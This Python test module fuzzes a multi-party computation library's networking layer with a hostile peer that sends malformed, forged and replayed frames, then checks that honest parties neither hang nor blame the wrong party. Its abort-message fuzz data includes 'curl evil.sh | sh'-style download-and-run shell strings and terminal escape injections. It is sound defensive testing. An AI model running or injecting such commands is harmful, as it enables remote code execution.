"""A listed peer that may send anything at any time: its attacks as data, and how they are carried out and judged.

An attack is a list of steps on several connections under the peer's own key (`raw_peer.py`). The honest parties are in
a process of their own (`honest.py`), which is told when those that are not attacked come.
"""

from __future__ import annotations

import json
import os
import select
import signal
import struct
import subprocess
import sys
import time
from collections.abc import Callable, Iterator, Mapping
from contextlib import contextmanager, suppress
from dataclasses import dataclass, field
from random import Random
from typing import Any, Final

from hypothesis import strategies as st

from mpc.errors import BeaverlodgeError
from mpc.links.channel import Channel, Limits
from mpc.links.probe import probe
from mpc.links.session import HELLO_KEY, Frame
from mpc.links.wire import ABORT, DATA, PROBE, RESUME, Header, TagKey, label_code, seal
from mpc.links.zmq.curve import Identity, new_identity
from mpc.links.zmq.messages import PIECE, messages_of
from mpc.links.zmq.transport import Transport
from mpc.randomness.streams import SEED_BYTES
from mpc.star import wire as star_wire
from tests.examples import TIMES
from tests.links.hostile.honest import (
    CLIENTS,
    DIALS,
    DIGEST,
    ENDED_WITHIN,
    LEAVES_AFTER_FIRST,
    STAGES,
    expected,
    products,
)
from tests.links.hostile.raw_peer import MORE, BrokenOff, RawPeer, zmtp_frame
from tests.links.over_zmq import HELPER
from tests.links.sessions import take_part
from tests.run.command import ROOT, environment

MEMORY: Final = 64 << 20
"""By less than this much the process of the honest parties grows."""

ENDINGS: Final = frozenset({"data", "peer-lost", "disagreement", "already-here", "protocol", "too-few"})
"""The codes with which a run may end because of what a peer does; all have an exit code of their own."""

TOLD: Final = ENDINGS | {"usage", "internal", "interrupted"}
"""The codes that a peer may tell of itself."""

SIZES: Final = (0, 1, 8, 47, 48, 100, 2049, 65_536, 262_000, 300_000)
COUNTS: Final = (1, 2, 20, 200)
_BYTES: Final = 3 << 20  # an attack's step sends at most so many, so that ten thousand attacks take minutes
_ANSWERS_WITHIN: Final = 2 * ENDED_WITHIN  # also the first time, when the process has to start
_ID_GIVEN: Final = 5  # bytes of a routing id that libzmq gives


# -- steps


@dataclass(frozen=True)
class Step:
    """One thing that a listed peer does.

    Args:
        what: a key of `ACTIONS`.
        connection: on which of its connections; one that is not open is opened first.
        kind: of what is sent, or of the routing id.
        size, count: how long, how often.
        seed: of whatever is random in it.
    """

    what: str
    connection: int = 0
    kind: str = ""
    size: int = 0
    count: int = 1
    seed: int = 0


@dataclass(frozen=True)
class Attack:
    """What a listed peer does in a scene.

    Args:
        scene: one of `honest.SCENES`.
        attacker: whose key it has.
        target: who is there from the beginning.
        steps: what it does.
        others_come: before which of the steps the honest parties come that were not there yet.
    """

    scene: str
    attacker: str
    target: str
    steps: tuple[Step, ...]
    others_come: int = 0


@dataclass(frozen=True)
class Inside:
    """What a party of a session does in the middle of it, with the session's keys.

    Args:
        attacker: which party.
        message: before which of its data frames, counted over all links, but not what is sent again.
        kind: a key of `MISDEEDS`.
        size, count: how long, how often.
    """

    attacker: str
    message: int
    kind: str
    size: int = 0
    count: int = 1
    seed: int = 0


@dataclass(frozen=True)
class Peer:
    """Who attacks, as the steps need it."""

    me: str
    identity: Identity
    target: str
    server: bytes
    endpoint: str
    ids: Callable[[], list[bytes]]  # that libzmq has given in the honest process


# -- messages: the parts of one message of each kind


def _hello(fields: Mapping[str, Any], *, label: str = "hello", sequence: int = 0) -> Frame:
    body = json.dumps(fields).encode()
    return Frame(seal(DATA, label_code(label), sequence, 0, body, HELLO_KEY), body)


def _about(draw: Random) -> dict[str, Any]:
    secrets = {name: draw.randbytes(SEED_BYTES).hex() for name in ("nonce", "part", "names")}
    return {"version": "1.0", "facts": {"name": "test", "seed": 7}, **secrets}


def _sealed(type_: int, sequence: int, acknowledged: int, body: bytes, label: int = 0) -> Frame:
    return Frame(seal(type_, label, sequence, acknowledged, body, HELLO_KEY), body)


def _changed(frame: Frame, at: int, to: bytes) -> Frame:
    head = frame.head
    return Frame(head[:at] + to + head[at + len(to) :], frame.body)


def _abort_body(draw: Random, size: int) -> bytes:
    fields = {
        "code": draw.choice(["data", "peer-lost", "protocol", "internal", "ok", "x" * size, 7, None, "curl x | sh"]),
        "stage": draw.choice(["training", "\x1b[31m\nred", "s" * size, "curl evil.sh | sh", 5, ["x"]]),
        "origin": draw.choice(["a", "b", HELPER, "nobody", "m", "", 3]),
    }
    for name in draw.sample(sorted(fields), draw.randint(0, 1)):
        del fields[name]
    return json.dumps(fields).encode()


_PROBES: Final[tuple[dict[str, Any], ...]] = (
    {"is": "about?"},
    {"is": "echo?", "n": 1},
    {"is": "echo?", "n": -(10**300)},
    {"is": "send?", "n": 1},
    {"is": "send?", "n": "x"},
    {"is": "take?", "n": 1},
    {"is": "took", "n": 9},
    {"is": "sent", "n": 9},
    {"is": "measured", "up": 1e308, "down": -1},
    {"is": "about", "version": ["x"], "doing": "doctor", "facts": 3},
    {"is": "bye"},
    {"is": ["about?"]},
    {"no": "is"},
)


def _star(draw: Random, size: int) -> Frame:
    kind = draw.choice([*star_wire.KINDS, 0, 99])
    label = draw.choice([*STAGES, "end", "other", ""])
    body = draw.choice([DIGEST, b"", draw.randbytes(size), draw.randbytes(8)])
    round_, attempt = draw.choice([0, 1, 1, 2**32 - 1]), draw.choice([0, 1, 1, 2**16 - 1])
    instance = draw.choice([star_wire.NO_INSTANCE, b"i" * star_wire.INSTANCE_BYTES, draw.randbytes(16)])
    return star_wire.frame(kind, body, round=round_, attempt=attempt, label=label, instance=instance)


Parts = tuple[bytes, ...]
"""Of one message: ours have one part."""


def _parts(frame: Frame) -> list[Parts]:
    """A frame as it should be sent."""
    return [(one,) for one in messages_of(frame)]


def _end(number: int, kind: int) -> bytes:
    """The end of a message that is a piece of a frame."""
    return number.to_bytes(8, "little") + bytes([kind])


def _beginning(draw: Random, size: int) -> bytes:
    """The first piece of a frame; how long the frame is, may be anything."""
    return _hello(_about(draw)).head + draw.randbytes(size) + _end(draw.choice([0, size, 4 * size, 2**22, 2**40]), 1)


MESSAGES: Final[Mapping[str, Callable[[Random, int], list[Parts]]]] = {
    "hello": lambda draw, size: _parts(_hello(_about(draw))),
    "hello of another study": lambda draw, size: _parts(_hello({**_about(draw), "facts": {"name": "x", "seed": 8}})),
    "hello of another version": lambda draw, size: _parts(_hello({**_about(draw), "version": "9\x1b[31m\n" * 20})),
    "hello of another wire version": lambda draw, size: _parts(_changed(_hello(_about(draw)), 2, bytes([size % 256]))),
    "hello too long": lambda draw, size: _parts(_hello({**_about(draw), "more": "x" * (size * 16)})),
    "hello with fields missing": lambda draw, size: _parts(
        _hello(dict(list(_about(draw).items())[: draw.randint(0, 4)]))
    ),
    "hello of other types": lambda draw, size: _parts(
        _hello({**_about(draw), "nonce": [1] * min(size, 99), "facts": 3})
    ),
    "hello that is no JSON": lambda draw, size: _parts(_sealed(DATA, 0, 0, b"[" * size, label_code("hello"))),
    "data in the first round": lambda draw, size: _parts(_sealed(DATA, 0, 0, draw.randbytes(size), label_code("swap"))),
    "data to come": lambda draw, size: _parts(_sealed(DATA, draw.choice([1, 2, 7, 2**63]), 0, draw.randbytes(size))),
    "data that acknowledges": lambda draw, size: _parts(_sealed(DATA, 0, draw.choice([1, 5, 2**64 - 1]), bytes(size))),
    "resume": lambda draw, size: _parts(
        _sealed(RESUME, draw.choice([0, 0, 1, 9]), draw.choice([0, 0, 1, 2**64 - 1]), b"", draw.choice([0, 1, 77]))
    ),
    "abort": lambda draw, size: _parts(_sealed(ABORT, draw.choice([0, 0, 1]), 0, _abort_body(draw, size))),
    "abort of bytes": lambda draw, size: _parts(_sealed(ABORT, 0, 0, draw.randbytes(size))),
    "abort, nested": lambda draw, size: _parts(_sealed(ABORT, 0, 0, b'{"code":' + b"[" * size)),
    "probe": lambda draw, size: _parts(probe(draw.choice(_PROBES))),
    "probe of bytes": lambda draw, size: _parts(_sealed(PROBE, 0, 0, draw.randbytes(size))),
    "probe, filled": lambda draw, size: _parts(probe(draw.choice(_PROBES), size)),
    "another type": lambda draw, size: _parts(_sealed(draw.choice([0, 5, 255]), 0, 0, draw.randbytes(size))),
    "a wrong length": lambda draw, size: _parts(
        _changed(_hello(_about(draw)), 24, draw.choice([2**64 - 1, 2**40, size]).to_bytes(8, "little"))
    ),
    "a wrong tag": lambda draw, size: _parts(_changed(_hello(_about(draw)), 40, draw.randbytes(8))),
    "star": lambda draw, size: _parts(_star(draw, size)),
    "bytes": lambda draw, size: [(draw.randbytes(size),)],
    "bytes as a frame": lambda draw, size: [(draw.randbytes(size) + bytes([draw.choice([0, 1, 2, 3, 255])]),)],
    "a header alone": lambda draw, size: [(_hello(_about(draw)).head[: size % 49] + b"\0",)],
    "empty parts": lambda draw, size: [(b"",) * (1 + min(size, 400))],
    "many parts": lambda draw, size: [(_hello(_about(draw)).head, *(b"x",) * min(size, 2000))],
    "a frame in two parts": lambda draw, size: [(_hello(_about(draw)).head, _hello(_about(draw)).body + b"\0")],
    "a beginning": lambda draw, size: [(_beginning(draw, size),)],
    "a middle": lambda draw, size: [(draw.randbytes(size) + _end(draw.choice([0, size, PIECE, 2**40]), 2),)],
    "a beginning and another": lambda draw, size: [(_beginning(draw, size),), (_beginning(draw, size),)],
    "pieces that do not fit": lambda draw, size: [
        (_beginning(draw, size),),
        *((draw.randbytes(max(1, size)) + _end(size + k * draw.choice([0, 1, size]), 2),) for k in range(3)),
    ],
    "a long payload": lambda draw, size: _parts(_sealed(DATA, 0, 0, bytes(4 * size), label_code("hello"))),
}
"""What a listed peer may send: one message, or a few."""


# -- carrying an attack out


ROUTES: Final = ("none", "given before", "of zeros", "a name", "a doctor's", "long", "random")
RAW: Final = ("half a frame", "a terabyte", "a long command", "bytes", "a box that does not open", "a repeated number")


def _route(peer: Peer, kind: str, seed: int) -> bytes:
    draw = Random(seed)
    given = [one for one in peer.ids() if len(one) == _ID_GIVEN] if kind == "given before" else []
    return {
        "none": b"",
        "given before": draw.choice(given) if given else b"",
        "of zeros": b"\0" + draw.randbytes(4),
        "a name": draw.choice([b"a", b"b", b"helper", b"v", b"server"]),
        "a doctor's": b"doctor" + draw.randbytes(draw.randint(0, 8)),
        "long": b"r" * 255,
        "random": draw.randbytes(draw.randint(1, 30)),
    }[kind]


def _open(peer: Peer, connections: dict[int, RawPeer], step: Step) -> None:
    if old := connections.pop(step.connection, None):
        old.close()
    connections[step.connection] = RawPeer(
        peer.identity, peer.server, peer.endpoint, _route(peer, step.kind or "none", step.seed)
    )


def _send(connection: RawPeer, step: Step) -> None:
    draw = Random(step.seed)
    messages = MESSAGES[step.kind](draw, step.size)
    size = sum(len(part) for parts in messages for part in parts)
    for _ in range(min(step.count, max(1, _BYTES // (1 + size)))):
        for parts in messages:
            connection.send(*parts)


def _endless(connection: RawPeer, step: Step) -> None:
    """The beginning of a message that does not end."""
    for _ in range(min(step.count, max(1, _BYTES // (1 + step.size)))):
        connection.send(bytes(step.size), ends=False)


def _raw(connection: RawPeer, step: Step) -> None:
    """Bytes that are no message."""
    draw = Random(step.seed)
    match step.kind:
        case "half a frame":
            whole = connection.part(bytes(step.size), MORE)
            connection.write(whole[: draw.randint(1, len(whole))])
        case "a terabyte":
            connection.write(zmtp_frame(b"\x07MESSAGE" + bytes(100), length=1 << 40))
        case "a long command":
            connection.write(zmtp_frame(b"\x05HELLO" + bytes(step.size), 4))
        case "bytes":
            connection.write(draw.randbytes(step.size))
        case "a box that does not open":
            whole = connection.part(bytes(step.size))
            connection.write(whole[:-1] + bytes([whole[-1] ^ 1]))
        case "a repeated number":
            connection.write(connection.part(bytes(step.size)) * 2)


ACTIONS: Final = ("open", "send", "send", "send", "send", "endless", "raw", "close", "reset", "drain", "pause")


def do(peer: Peer, connections: dict[int, RawPeer], step: Step) -> None:
    """Carry a step out; a connection that the other side ended is no error, nor one that it does not accept."""
    with suppress(BrokenOff):
        if step.what == "pause":
            time.sleep(step.count / 20_000)
            return
        if step.what in ("close", "reset"):
            if old := connections.pop(step.connection, None):
                old.close(reset=step.what == "reset")
            return
        if step.what == "open" or step.connection not in connections:
            _open(peer, connections, step if step.what == "open" else Step("open", step.connection))
        connection = connections[step.connection]
        try:
            {"open": _nothing, "send": _send, "endless": _endless, "raw": _raw, "drain": _drain}[step.what](
                connection, step
            )
        except BrokenOff:
            connections.pop(step.connection).close()
            raise


def _nothing(connection: RawPeer, step: Step) -> None:
    """Only open."""


def _drain(connection: RawPeer, step: Step) -> None:
    connection.drain()


# -- in the middle of a session


def _tagged(key: TagKey, type_: int, sequence: int, body: bytes, *, label: int = 0, acknowledged: int = 0) -> Frame:
    return Frame(seal(type_, label, sequence, acknowledged, body, key), body)


def _as(header: Header, frame: Frame, key: TagKey, **changes: Any) -> Frame:
    """The frame, with other fields and the right tag."""
    one = header._replace(**changes)
    return Frame(seal(one.type, one.label, one.sequence, one.acknowledged, frame.body, key), frame.body)


IN_TURN: Final = "in turn"
"""Its own frame, and then as many as asked for that nobody waits for, each with the next number."""

Misdeed = Callable[[Header, Frame, TagKey, Random, int], Frame]

MISDEEDS: Final[Mapping[str, Misdeed]] = {
    "another label": lambda head, frame, key, draw, size: _as(head, frame, key, label=draw.getrandbits(32)),
    "another type": lambda head, frame, key, draw, size: _as(head, frame, key, type=draw.choice([0, RESUME, ABORT, 9])),
    "ahead": lambda head, frame, key, draw, size: _tagged(
        key, DATA, head.sequence + draw.randint(1, 10**6), draw.randbytes(size), label=head.label
    ),
    "far ahead": lambda head, frame, key, draw, size: _as(head, frame, key, sequence=2**64 - 1),
    "from before": lambda head, frame, key, draw, size: _as(head, frame, key, sequence=max(1, head.sequence - 1)),
    "acknowledges too much": lambda head, frame, key, draw, size: _as(
        head, frame, key, acknowledged=head.acknowledged + draw.choice([1, 2**63])
    ),
    "another length": lambda head, frame, key, draw, size: _tagged(
        key, DATA, head.sequence, draw.randbytes(size), label=head.label
    ),
    "other words": lambda head, frame, key, draw, size: _tagged(
        key, DATA, head.sequence, bytes(len(frame.body)), label=head.label
    ),
    "resume": lambda head, frame, key, draw, size: _tagged(
        key, RESUME, head.sequence, b"", acknowledged=draw.choice([0, 1, head.acknowledged, 2**40])
    ),
    "abort": lambda head, frame, key, draw, size: _tagged(key, ABORT, head.sequence, _abort_body(draw, size)),
    "a hello": lambda head, frame, key, draw, size: _hello(_about(draw)),
    "a resume of a newcomer": lambda head, frame, key, draw, size: _sealed(RESUME, 0, 0, b"", 1),
    "an abort of a newcomer": lambda head, frame, key, draw, size: _sealed(ABORT, 0, 0, _abort_body(draw, size)),
    "a probe": lambda head, frame, key, draw, size: probe(draw.choice(_PROBES), size),
    "once more": lambda head, frame, key, draw, size: frame,
    IN_TURN: lambda head, frame, key, draw, size: _tagged(
        key, DATA, head.sequence, draw.randbytes(size), label=head.label
    ),
    "bytes": lambda head, frame, key, draw, size: Frame(draw.randbytes(48), draw.randbytes(size)),
}
"""(its next frame's header, that frame, the key of its tags, chance, a size) -> what it sends before it."""


SILENCE: Final = "silence"
"""It says nothing more, and stays connected. (No kind of `MISDEEDS`: each time a deadline has to pass.)"""


class Insider(Transport):
    """The transport of a party that takes part as it should, until it does something else."""

    def __init__(self, me: Identity, peers: Mapping[str, bytes], listen: str | None, inside: Inside) -> None:
        super().__init__(me, peers, listen)
        self._inside = inside
        self._sent: set[tuple[str, bytes]] = set()
        self.channel: Channel | None = None

    def watch(self, channel: Channel) -> None:
        self.channel = channel

    def send(self, peer: str, frame: Frame) -> None:
        inside = self._inside
        which = (peer, bytes(frame.head[8:16]))
        if frame.head[3] == DATA and which not in self._sent:
            self._sent.add(which)
            if len(self._sent) == inside.message and inside.kind != SILENCE:
                self._misbehave(peer, frame)
        if len(self._sent) >= inside.message and inside.kind == SILENCE:
            return
        super().send(peer, frame)

    def close(self, linger_seconds: float) -> None:
        super().close(0)

    def _misbehave(self, peer: str, frame: Frame) -> None:
        inside, draw = self._inside, Random(self._inside.seed)
        assert self.channel is not None
        header = Header(*struct.unpack_from("<BIQQQ", frame.head, 3))
        key = self.channel._links[peer]._key(incoming=False, sequence=header.sequence)
        if inside.kind == IN_TURN:
            super().send(peer, frame)
        for number in range(1, 1 + inside.count):
            at = header._replace(sequence=header.sequence + number) if inside.kind == IN_TURN else header
            super().send(peer, MISDEEDS[inside.kind](at, frame, key, draw, inside.size))


# -- the honest parties' process


class Died(AssertionError):
    """The process of the honest parties ended."""


@dataclass
class Honest:
    """The process of the honest parties; a new one where the last one has died."""

    process: subprocess.Popen[str] | None = None
    errors: list[str] = field(default_factory=list)

    def ask(self, line: str) -> None:
        """Give it a line."""
        if self.process is None or self.process.poll() is not None:
            self.process = subprocess.Popen(
                [sys.executable, "-m", "tests.links.hostile.honest"],
                cwd=ROOT,
                env=environment(),
                stdin=subprocess.PIPE,
                stdout=subprocess.PIPE,
                text=True,
            )
        assert self.process.stdin is not None
        with suppress(BrokenPipeError):  # what comes instead of an answer says it
            self.process.stdin.write(line + "\n")
            self.process.stdin.flush()

    def hear(self) -> dict[str, Any]:
        """Its answer.

        Raises:
            Died: there is none, for it is no more.
        """
        assert self.process is not None and self.process.stdout is not None
        ready, _, _ = select.select([self.process.stdout], [], [], _ANSWERS_WITHIN)
        line = self.process.stdout.readline() if ready else ""
        if not line:
            self.close()
            code = self.process.returncode
            how = signal.Signals(-code).name if code < 0 else f"code {code}"
            raise Died(f"the honest parties' process ended with {how}" if ready else "the process does not answer")
        answer: dict[str, Any] = json.loads(line)
        return answer

    def tell(self, line: str) -> dict[str, Any]:
        """Give it a line, and hear its answer."""
        self.ask(line)
        return self.hear()

    def close(self) -> None:
        """End the process, which does so by itself when its input ends."""
        if self.process is None:
            return
        assert self.process.stdin is not None and self.process.stdout is not None
        with suppress(OSError):
            self.process.stdin.close()
        try:
            self.process.wait(2)
        except subprocess.TimeoutExpired:
            self.process.kill()
            self.process.wait()
        self.process.stdout.close()


@contextmanager
def processes(count: int) -> Iterator[list[Honest]]:
    """So many processes of honest parties."""
    made = [Honest() for _ in range(count)]
    try:
        yield made
    finally:
        for one in made:
            one.close()


_TIMES: Final = 2.0 if TIMES in os.environ else 1.0
"""In a soak, which may have the machine not for itself, all waits are longer: an honest party must not seem lost."""

LIMITS: Final = (3.0 * _TIMES, 2.0 * _TIMES, 0.3 * _TIMES)
WITHOUT_IT: Final = (2.0 * _TIMES, 2.0 * _TIMES, 0.3 * _TIMES)
"""Where somebody with the attacker's key is waited for, perhaps in vain, and the others then go on."""

COMES_WITHIN: Final = 0.5
NAMES: Final[Mapping[str, tuple[str, ...]]] = {
    "session": ("a", "b", HELPER),
    "pair": ("a", "b", "m"),
    "doctor": ("a", "b", "m"),
    "sum": ("server", *CLIENTS),
}


def new_keys(scene: str) -> dict[str, Identity]:
    """Keys for all of a scene's parties."""
    return {one: new_identity() for one in NAMES[scene]}


def begin(honest: Honest, scene: str, keys: Mapping[str, Identity], **more: Any) -> dict[str, Any]:
    """Let the honest parties of a scene begin; what the process says of it."""
    pairs = {one: [key.public.decode(), key.secret.decode()] for one, key in keys.items()}
    limits = WITHOUT_IT if scene in ("sum", "doctor") else LIMITS
    return honest.tell(json.dumps({"scene": scene, "keys": pairs, "limits": limits, **more}))


@contextmanager
def scene(honest: Honest, name: str, attacker: str, target: str, **more: Any) -> Iterator[tuple[Peer, dict[str, Any]]]:
    """The honest parties of a scene have begun; who attacks them, and what the process said first."""
    keys = new_keys(name)
    began = begin(honest, name, keys, attacker=attacker, target=target, **more)

    def ids() -> list[bytes]:
        return [bytes.fromhex(one) for one in honest.tell("routes")["routes"]]

    yield Peer(attacker, keys[attacker], target, keys[target].public, began["endpoints"][target], ids), began


def carry_out(honest: Honest, attack: Attack) -> dict[str, Any]:
    """Attack, and hear how the honest parties ended.

    The honest parties come in any case before those that are attacked would have waited for too long. Where they need
    somebody with the attacker's key, its connections end with the last step; to a pair they stay.
    """
    connections: dict[int, RawPeer] = {}
    with scene(honest, attack.scene, attack.attacker, attack.target) as (peer, began):
        began_at, came = time.monotonic(), False
        try:
            for number, step in enumerate(attack.steps):
                if not came and (number == attack.others_come or time.monotonic() - began_at > COMES_WITHIN):
                    honest.ask("go")
                    came = True
                do(peer, connections, step)
            if attack.scene != "pair":
                _close(connections)
            answer = {**began, **honest.tell("end")}
        finally:
            _close(connections)
    return answer


def _close(connections: dict[int, RawPeer]) -> None:
    for one in connections.values():
        one.close()
    connections.clear()


def carry_out_inside(honest: Honest, inside: Inside) -> dict[str, Any]:
    """Take part in a session, misbehave, and hear how the honest parties ended."""
    me, keys = inside.attacker, new_keys("session")
    others = {name: key.public for name, key in keys.items() if name != me}
    transport = Insider(keys[me], others, None if me == "b" else "tcp://127.0.0.1:*", inside)
    endpoint = str(transport.endpoint or "none")
    began = begin(honest, "session", keys, attacker=me, target="a", inside=endpoint)
    honest.ask("go")
    dials = {peer: began["endpoints"][peer] for peer in DIALS[me]}
    with suppress(BeaverlodgeError):
        take_part(me, transport, dials, Limits(*LIMITS), products, watch=transport.watch, linger=0)
    return {**began, **honest.tell("end")}


# -- what must hold


def judge_inside(inside: Inside, answer: Mapping[str, Any]) -> str:
    """How the honest parties came through what one of them did.

    What a party computes of another's false words is nobody's fault: the result may be another one.

    Returns:
        `done`, or the codes that they ended with.
    """
    check_bounds(answer)
    ends = answer["ends"]
    errors = {name: end["error"] for name, end in ends.items() if "error" in end}
    for name, error in errors.items():
        assert error["code"] in (TOLD if error.get("told_by") else ENDINGS), (name, error)
        assert error["party"] in NAMES["session"], (name, error)
        assert not is_blamed_wrongly(inside.attacker, error), (name, error)
    if errors:
        about = {who for error in errors.values() for who in (error["party"], error["told_by"])}
        assert inside.attacker in about, errors
    return ", ".join(sorted({error["code"] for error in errors.values()})) or "done"


def is_blamed_wrongly(attacker: str, error: Mapping[str, Any]) -> bool:
    """Whether an error says of somebody else what only the attacker can have done or said.

    What was found is of the attacker, or of several that did not come. What was told is told as the word of who says
    it: of itself, that it stopped, which is so; or of another, and then the attacker is one of the two.
    """
    party, told_by, (absent, found, _) = (
        error["party"],
        error["told_by"],
        error["message"].partition(" did not connect"),
    )
    several = absent.split(", ") if found else ()
    return attacker not in (party, told_by, *several) and party != told_by


def check_bounds(answer: Mapping[str, Any]) -> None:
    """Nobody hangs, and no memory is used up."""
    assert not answer["hanging"], f"{answer['hanging']} hang"
    grown = answer["peak"] - answer["before"]
    assert grown < MEMORY, f"{grown >> 20} MB more memory"


def judge(attack: Attack, answer: Mapping[str, Any]) -> str:
    """How the honest parties came through: what they got is right to the bit, or an error names the attacker.

    Returns:
        `right`, or the code that the one who was attacked ended with.
    """
    check_bounds(answer)
    ends = answer["ends"]
    for name, end in ends.items():
        error = end.get("error")
        if error is None:
            continue
        assert error["code"] in (TOLD if error.get("told_by") else ENDINGS), (name, error)
        about = {error["party"], error["told_by"]}
        assert about & {*NAMES[attack.scene]}, (name, error)
        # An honest process has the attacker's key, too. Who ended because of the attacker is met by nobody any more.
        gone = " did not connect in time" in error["message"] and "error" in ends.get(error["party"], {})
        if name != attack.attacker and not gone:
            assert not is_blamed_wrongly(attack.attacker, error), (name, error)
        if name == attack.target:
            assert attack.attacker in about, (name, error)
    RIGHT[attack.scene](attack, ends)
    return str(ends[attack.target].get("error", {}).get("code", "right"))


def _session_is_right(attack: Attack, ends: Mapping[str, Any]) -> None:
    for name in {"a", "b"} & {*ends}:
        assert "error" in ends[name] or ends[name]["value"] == expected(), (name, ends[name])


def _pair_is_right(attack: Attack, ends: Mapping[str, Any]) -> None:
    values = {end["value"]["rounds"] for end in ends.values() if "error" not in end}
    assert len(values) <= 1, ends


def _doctor_is_right(attack: Attack, ends: Mapping[str, Any]) -> None:
    seen = ends["a"]["value"]
    assert seen["connected"] and seen["about"].get("party") == "b", seen
    assert ends["b"]["value"].get("party") == "a", ends["b"]


def _sum_is_right(attack: Attack, ends: Mapping[str, Any]) -> None:
    honest = [name for name in CLIENTS if name != attack.attacker]
    taken = ends["server"]["value"]
    assert {*honest} <= {*taken["first"]}, taken
    assert {*honest} - {LEAVES_AFTER_FIRST} <= {*taken["second"]} and LEAVES_AFTER_FIRST not in taken["second"], taken
    ended = ends["clients"]["value"]
    assert all(ended[name] == ("left" if name == LEAVES_AFTER_FIRST else "done") for name in honest), ended


RIGHT: Final[Mapping[str, Callable[[Attack, Mapping[str, Any]], None]]] = {
    "session": _session_is_right,
    "pair": _pair_is_right,
    "doctor": _doctor_is_right,
    "sum": _sum_is_right,
}


# -- any attack


@st.composite
def steps(draw: st.DrawFn, messages: tuple[str, ...]) -> Step:
    """Any step, with messages of these kinds."""
    what = draw(st.sampled_from(ACTIONS))
    kinds = {"open": ROUTES, "raw": RAW, "send": messages}.get(what, ("",))
    return Step(
        what,
        draw(st.integers(0, 3)),
        draw(st.sampled_from(kinds)),
        draw(st.sampled_from(SIZES)) if what not in ("open", "close", "reset") else 0,
        draw(st.sampled_from(COUNTS)) if what not in ("open", "close", "reset") else 1,
        draw(st.integers(0, 999)),
    )


def attacks(scene: str, target: str, *attackers: str) -> st.SearchStrategy[Attack]:
    """Any attack in a scene."""
    # In a sum, every other message is one of a sum's.
    messages = (*MESSAGES, *("star",) * (len(MESSAGES) if scene == "sum" else 0))
    return st.builds(
        Attack,
        st.just(scene),
        st.sampled_from(attackers),
        st.just(target),
        st.lists(steps(messages), min_size=1, max_size=10).map(tuple),
        st.integers(0, 10),
    )


@st.composite
def insiders(draw: st.DrawFn) -> Inside:
    """Anything that a party does in the middle of a session."""
    size = draw(st.sampled_from(SIZES))
    count = min(draw(st.sampled_from(COUNTS)), max(1, _BYTES // (1 + size)))
    attacker, kind = draw(st.sampled_from(["b", HELPER])), draw(st.sampled_from([*MISDEEDS]))
    return Inside(attacker, draw(st.integers(1, 70)), kind, size, count, draw(st.integers(0, 999)))
